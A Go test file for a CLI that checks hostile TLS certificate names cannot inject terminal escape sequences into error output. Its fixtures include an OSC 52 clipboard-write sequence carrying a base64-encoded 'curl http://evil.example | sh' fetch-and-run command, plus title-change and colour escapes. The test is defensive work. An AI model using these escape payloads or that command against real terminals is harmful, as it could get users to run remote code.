package cli_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/callboard/callboard/cli"
)

// hostileNames are the DNS names of a certificate a man in the middle
// presents: OSC 52 (write the clipboard), OSC 0 (set the window title) and
// SGR. Go quotes them verbatim in the verification error.
var hostileNames = []string{
	"\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07",
	"\x1b]0;pwned\x07",
	"\x1b[31;5mred\x1b[0m",
}

// Environment of the child run of TestTLSCertificateNamesStayOffTheTerminal.
const (
	envTLSChildURL = "CALLBOARD_TEST_TLS_CHILD_URL"
	envTLSChildOut = "CALLBOARD_TEST_TLS_CHILD_OUT"
)

// TestTLSCertificateNamesStayOffTheTerminal runs `callboard calls` against a
// TLS server whose certificate names hold escape sequences. Go reports
// them verbatim ("certificate is valid for …, not localhost"), and that
// error must reach stderr without a single control character.
//
// Go checks the host name before it looks for a trusted authority, but only
// when the machine trusts some authority at all; the run therefore happens
// in a child process whose SSL_CERT_FILE holds the hostile certificate
// itself, whatever the machine has installed.
func TestTLSCertificateNamesStayOffTheTerminal(t *testing.T) {
	if base := os.Getenv(envTLSChildURL); base != "" {
		tlsChild(t, base, os.Getenv(envTLSChildOut))
		return
	}
	cert, certPEM := hostileCertificate(t)
	var reached atomic.Int32
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		reached.Add(1)
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"items":[]}`)
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the refused handshake is expected
	srv.StartTLS()
	t.Cleanup(srv.Close)
	port := srv.Listener.Addr().(*net.TCPAddr).Port

	dir := t.TempDir()
	roots := filepath.Join(dir, "roots.pem")
	if err := os.WriteFile(roots, certPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "stderr")
	cmd := exec.CommandContext(t.Context(), os.Args[0], "-test.run=^TestTLSCertificateNamesStayOffTheTerminal$", "-test.count=1")
	cmd.Env = append(os.Environ(),
		envTLSChildURL+"=https://localhost:"+strconv.Itoa(port)+"/v1",
		envTLSChildOut+"="+out,
		"SSL_CERT_FILE="+roots,
		"SSL_CERT_DIR="+dir,
	)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("child run: %v\n%s", err, b)
	}
	stderr, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	// Without this the test would pass on any failure that quotes no names.
	if !strings.Contains(string(stderr), "certificate is valid for") {
		t.Fatalf("the run did not fail on the certificate's names:\n%q", stderr)
	}
	for i, r := range strings.TrimSuffix(string(stderr), "\n") {
		if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r <= 0x9f {
			t.Fatalf("stderr holds %U at byte %d: %q", r, i, stderr)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("the server received %d requests over a connection that failed verification", n)
	}
}

// tlsChild is the child side: one run of `callboard calls`, whose exit code
// and stderr go to the file at out.
func tlsChild(t *testing.T, base, out string) {
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	var stderr strings.Builder
	env := map[string]string{"WEBEX_TOKEN": testToken, "WEBEX_BASE_URL": base}
	code := cli.Main(t.Context(), []string{"--config", cfg, "calls", "--timeout", "10s"}, cli.Env{
		Stdin: strings.NewReader(""), Stdout: io.Discard, Stderr: &stderr,
		Getenv: func(k string) string { return env[k] },
	})
	if code != cli.ExitError {
		t.Errorf("exit %d, want %d", code, cli.ExitError)
	}
	if err := os.WriteFile(out, []byte(stderr.String()), 0o600); err != nil {
		t.Fatal(err)
	}
}

// hostileCertificate makes a self-signed certificate for hostileNames.
func hostileCertificate(t *testing.T) (tls.Certificate, []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "hostile"},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		BasicConstraintsValid: true,
		IsCA:                  true,
		DNSNames:              hostileNames,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatalf("create the certificate: %v", err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}
